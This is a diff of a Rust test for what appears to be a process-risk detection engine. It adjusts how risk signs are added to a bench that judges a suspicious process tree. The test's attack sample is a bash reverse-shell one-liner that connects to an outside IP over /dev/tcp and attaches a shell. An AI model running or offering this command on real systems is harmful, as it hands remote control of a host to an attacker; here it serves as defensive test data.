@@ -94,13 +94,13 @@ fn without_time_a_tree_with_signs_comes_first_and_the_rest_is_caught_up_with() {
     let by_gate = bench.waiting.next_risk();
     assert!(by_gate.is_some_and(|risk| risk != 0.0), "{by_gate:?}");
     let attack = runs(99, "exec 9<>/dev/tcp/203.0.113.4/8443; sh <&9 >&9 2>&9");
-    let thresholds = bench.judge.as_ref().unwrap().thresholds(None);
-    // More signs than any gate's log-odds.
     for sign in 0..40 {
+        let other = ProcessKey {
+            pid: 1000 + sign,
+            start_ns: 1,
+        };
         let tree = attack.process;
-        bench
-            .risks
-            .add(tree, sign, thresholds.suspicious, thresholds, 1);
+        bench.risks.add(tree, other, sign.into(), 9.0, 1);
     }
     assert!(bench.apply(&attack, Hurry::None).is_ok());
     let again = bench.work().ok().flatten();
